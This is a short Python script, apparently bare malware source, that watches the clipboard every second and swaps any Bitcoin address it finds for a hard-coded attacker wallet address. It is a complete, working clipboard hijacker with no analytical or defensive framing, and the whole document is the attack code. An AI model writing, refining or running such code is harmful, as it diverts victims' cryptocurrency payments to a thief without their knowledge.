import re
import time
import pyperclip

BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
while True:
    text = pyperclip.paste()
    if BTC.match(text):
        pyperclip.copy("bc1qattackerwalletaddressxxxxxxxxxxxxxx")
    time.sleep(1)
